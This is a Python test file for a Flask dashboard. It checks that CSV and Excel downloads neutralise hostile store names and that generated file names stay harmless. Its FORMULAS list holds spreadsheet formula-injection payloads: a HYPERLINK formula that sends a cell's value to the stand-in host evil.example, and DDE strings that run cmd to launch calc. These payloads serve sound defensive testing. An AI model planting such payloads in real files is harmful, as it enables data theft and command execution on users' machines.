"""Every file of a store whose names are meant to harm whoever opens it: text stays text, and no cell is another."""

import csv
import io
import json
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask.testing import FlaskClient

from callbacks.downloads import DOWNLOADS
from components.spreadsheets import file_name
from dashboard import Settings, create_app
from data_access.building import build_database
from tests.components.payloads import LONG, PAYLOADS
from tests.dashboard.sample_app import client

FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    'x";=1+1;"y',
    "x\r\n=1+1",
    "'=1+1",
    "a,b;c|d",
)
NAMES = (*FORMULAS, *PAYLOADS, LONG)
TABLES = ("Customers", "Products", "Orders", "OrderItems", "Reviews", "StockLevels")
# Columns that hold somebody's words; those that must be unique get their row's number.
WORDS = {
    "Customers": ("FullName", "Email", "Region", "CustomerNumber"),
    "Products": ("ProductName", "SKU", "Category"),
    "Orders": ("Region", "OrderNumber"),
    "Reviews": ("Comment",),
}
UNIQUE = {"Email", "SKU", "CustomerNumber", "OrderNumber"}
LABELS = {"Region", "Category"}


class Words:
    """Hostile words for a store: a label always gets the same, a name one after the other."""

    def __init__(self) -> None:
        self.labels: dict[str, str] = {}

    def __call__(self, column: str, value: Any, number: int) -> Any:
        if column in LABELS:
            return value and self.labels.setdefault(value, f"{NAMES[len(self.labels) % len(NAMES)]} {value}")
        name = NAMES[number % len(NAMES)]
        return f"{name} {number}" if column in UNIQUE else name


@pytest.fixture(scope="module")
def site(store_path: Path, tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
    """The simulated store under other names."""
    path, words = tmp_path_factory.mktemp("hostile") / "hostile.db", Words()

    def fill(connection: sqlite3.Connection) -> None:
        with closing(sqlite3.connect(store_path)) as original:
            for table in TABLES:
                cursor = original.execute(f"SELECT * FROM {table}")
                columns = [column[0] for column in cursor.description]
                rows = [
                    [words(column, value, number) if column in WORDS.get(table, ()) else value
                     for column, value in zip(columns, row, strict=True)]
                    for number, row in enumerate(cursor)
                ]  # fmt: skip
                marks = ", ".join("?" * len(columns))
                connection.executemany(f"INSERT INTO {table} VALUES ({marks})", rows)
        facts = {"source": FORMULAS[0], "currency": "USD", "minor_digits": "2", "receipt": json.dumps({"kind": "x"})}
        connection.executemany("INSERT INTO StoreFacts VALUES (?, ?)", facts.items())

    build_database(path, fill)
    return client(create_app(Settings(database=str(path), query_seconds=30)))


def address(name: str, ending: str) -> str:
    """Where a file is; one of a single thing says of which."""
    kind = name.removeprefix("rows-").partition("-")[0].removesuffix("s")
    item = f"&{kind}=9" if kind in ("product", "customer", "order") else ""
    return (
        f"/download/{name}.{ending}?range=all&about=1{item}"
        if ending == "csv"
        else f"/download/{name}.{ending}?range=all{item}"
    )


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def evaluated(text: str) -> bool:
    """Whether a spreadsheet may take a cell of CSV for a formula, also one that splits at semicolons or tabs."""
    later = [part.lstrip() for part in text.replace("\t", ";").split(";")[1:]]
    return any(part.startswith(tuple("=+-@\t\r\n＝＋－＠")) and not is_number(part) for part in (text, *later))


@pytest.mark.parametrize("name", DOWNLOADS)
def test_in_csv_nothing_begins_like_a_formula_and_every_row_has_its_cells(name: str, site: FlaskClient) -> None:
    answer = site.get(address(name, "csv"))
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline=""), strict=True))
    head = next(number for number, row in enumerate(rows) if not row[0].startswith("# "))
    assert {len(row) for row in rows[head:]} == {len(DOWNLOADS[name].columns)}
    assert [cell for row in rows for cell in row if evaluated(cell)] == []


@pytest.mark.parametrize("name", DOWNLOADS)
def test_in_excel_there_is_no_formula_and_no_link(name: str, site: FlaskClient) -> None:
    answer = site.get(address(name, "xlsx"))
    assert answer.status_code == 200, answer.text
    file = io.BytesIO(answer.get_data())
    for sheet in openpyxl.load_workbook(file, read_only=True).worksheets:
        assert [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    with zipfile.ZipFile(file) as parts:
        sheets = [parts.read(one) for one in parts.namelist() if one.startswith("xl/worksheets/")]
        assert not any((b"<f" in sheet and b"<f>" in sheet) or b"<hyperlink" in sheet for sheet in sheets)
        assert not [one for one in parts.namelist() if "externalLink" in one or "vba" in one.lower()]


def test_the_names_are_there_whole(site: FlaskClient) -> None:
    book = openpyxl.load_workbook(io.BytesIO(site.get("/download/rows-revenue.xlsx?range=30d").get_data()))
    held = {cell for row in book.worksheets[0].iter_rows(values_only=True) for cell in row if isinstance(cell, str)}
    # A workbook cannot hold some control characters, and ends lines in its own way.
    plain = [name for name in NAMES if name.isprintable() and len(name) < 60]
    assert set(plain) <= held
    csv_names = site.get("/download/rows-revenue.csv?range=30d").text
    assert "'=HYPERLINK" in csv_names and "'@SUM" in csv_names


@pytest.mark.parametrize("store", NAMES)
def test_a_hostile_store_gives_a_file_a_harmless_name(store: str) -> None:
    name = file_name(store, "sales", ["2026-01-01"], "csv")
    assert name.isascii() and not set(name) & set("\"'\\/:*?<>|=;\r\n\t ")
